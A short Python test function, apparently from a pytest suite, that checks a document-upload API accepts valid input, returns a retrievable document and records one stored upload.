def test_valid_input_is_accepted(visitor: Visitor, case: str) -> None:
    answer = GOOD[case](visitor)
    assert answer.status_code in {200, 202}, answer.text
    assert answer.json()["state"] == "uploaded"
    shown = visitor.browser.get(f"/api/v1/documents/{answer.json()['document_id']}")
    assert shown.status_code == 200
    assert visitor.uploads() == [("uploaded", None)]
    assert (visitor.documents(), visitor.objects()) == (1, 1)
